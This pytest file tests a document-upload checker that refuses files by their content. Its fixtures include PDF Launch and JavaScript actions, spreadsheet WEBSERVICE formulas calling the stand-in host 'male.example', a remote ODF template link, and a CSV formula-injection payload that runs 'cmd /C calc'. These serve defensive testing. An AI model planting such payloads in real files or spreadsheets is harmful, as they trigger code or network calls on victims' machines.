"""Files are judged by what is in them, and refused in words that tell what to do."""

import zlib
from io import BytesIO

import pytest

from desk.errors import DocumentRefused
from desk.files import FileFlaw, examine
from tests.kit.hostile_files import odf, ooxml, pdf, signed, value
from tests.kit.places import fault

HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 40
OID = bytes.fromhex("06092a864886f70d010702"), bytes.fromhex("06092a864886f70d010701")


def flaw_of(content, name):
    try:
        examine(BytesIO(content), name)
    except DocumentRefused as refusal:
        return refusal.flaw
    return None


def detached():
    inner = value(0x30, value(0x02, b"\1") + value(0x31, b"") + value(0x30, OID[1]))
    return value(0x30, OID[0] + value(0xA0, inner))


def packed_objects(text):
    packed = zlib.compress(text)
    return pdf(
        b"\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\r\n" + packed + b"\nendstream"
    )


@pytest.mark.parametrize("name", ["atto.p7m", "atto.pdf (1).p7m", "atto(2).p7m", "Atto firmato v1.2.p7m"])
@pytest.mark.parametrize("inner", [pdf(), ooxml("pptx"), odf("odt"), "Perché no?".encode(), signed(pdf())])
def test_a_signed_document_is_known_by_what_was_signed(name, inner):
    assert flaw_of(signed(inner), name) is None


@pytest.mark.parametrize(
    ("inner", "flaw"),
    [(b"MZ\x90\0", FileFlaw.EXECUTABLE), (b"\0\1\2", FileFlaw.MISMATCH), (b"PK\x03\x04x", FileFlaw.ARCHIVE)],
)
def test_what_was_signed_is_examined_also_under_a_name_that_says_nothing(inner, flaw):
    assert flaw_of(signed(inner), "atto.p7m") is flaw


def test_a_signature_without_its_document_is_called_so():
    assert flaw_of(detached(), "atto.pdf.p7m") is flaw_of(detached(), "atto.p7m") is FileFlaw.DETACHED


@pytest.mark.parametrize("name", ["IMG_1234.HEIC", "foto.heif", "foto.jpg"])
def test_a_photograph_that_few_can_open_is_explained(name):
    assert flaw_of(HEIC, name) is FileFlaw.HEIC


@pytest.mark.parametrize("name", [b"/Encrypt", b"/#45ncrypt"])
def test_a_pdf_with_a_password_is_refused(name):
    assert flaw_of(pdf(b"trailer<</Size 4/Root 1 0 R" + name + b" 9 0 R>>"), "a.pdf") is FileFlaw.PROTECTED
    assert flaw_of(pdf(b"/EncryptMetadata true"), "a.pdf") is None


@pytest.mark.parametrize("action", [b"/S /Launch", b"/S/JavaScript/JS(app.alert(1))", b"/S /Java#53cript"])
def test_what_a_pdf_starts_is_found_open_and_packed_away(action):
    assert flaw_of(pdf(b"<<" + action + b">>"), "a.pdf") is FileFlaw.ACTIVE
    assert flaw_of(packed_objects(b"1 0 <<" + action + b">>"), "a.pdf") is FileFlaw.ACTIVE
    assert flaw_of(packed_objects(b"1 0 <</Type/Page>>"), "a.pdf") is None


@pytest.mark.parametrize("call", ["WEBSERVICE(", "_xlfn.WEBSERVICE (", "_xlfn.IMAGE("])
def test_a_formula_that_asks_a_server_is_refused(call):
    cell = f'<worksheet><c><f>{call}"https://male.example")</f></c></worksheet>'
    told = f'<worksheet><c t="inlineStr"><is><t>{call}</t></is></c></worksheet>'
    assert flaw_of(ooxml("xlsx", more={"xl/worksheets/sheet1.xml": cell}), "a.xlsx") is FileFlaw.ACTIVE
    assert flaw_of(ooxml("xlsx", more={"xl/worksheets/sheet1.xml": told}), "a.xlsx") is None
    table = f'<document xmlns:t="urn:t"><t:cell t:formula="of:={call}&quot;x&quot;)"/></document>'
    assert flaw_of(odf("ods", more={"content.xml": table}), "a.ods") is FileFlaw.ACTIVE
    assert flaw_of(f'nome;={call}"https://male.example")\n'.encode(), "a.csv") is FileFlaw.ACTIVE


def test_a_template_from_elsewhere_is_refused():
    meta = '<meta xmlns:m="urn:m" xmlns:x="urn:x"><m:template x:href="https://male.example/x.ott"/></meta>'
    assert flaw_of(odf("odt", more={"meta.xml": meta}), "a.odt") is FileFlaw.ACTIVE
    assert flaw_of(odf("odt", more={"meta.xml": meta.replace("https:", "../..")}), "a.odt") is None


@pytest.mark.parametrize("cell", ["+39 333 1234567", "+39 333 | 0125 712345", "-3|4", "+ 39|casa!"])
def test_a_telephone_in_a_table_starts_nothing(cell):
    assert flaw_of(f"nome;{cell}\n".encode(), "a.csv") is None


def test_a_command_in_a_table_is_still_refused():
    assert flaw_of(b"nome;=cmd|' /C calc'!A0\n", "a.csv") is FileFlaw.ACTIVE


def test_files_that_were_judged_by_their_name_are_judged_by_their_content():
    assert flaw_of(fault("atto.p7m").read_bytes(), "atto.p7m") is None
    assert flaw_of(fault("firma_separata.pdf.p7m").read_bytes(), "firma_separata.pdf.p7m") is FileFlaw.DETACHED
    assert flaw_of(fault("pdf_con_password.pdf").read_bytes(), "pdf_con_password.pdf") is FileFlaw.PROTECTED
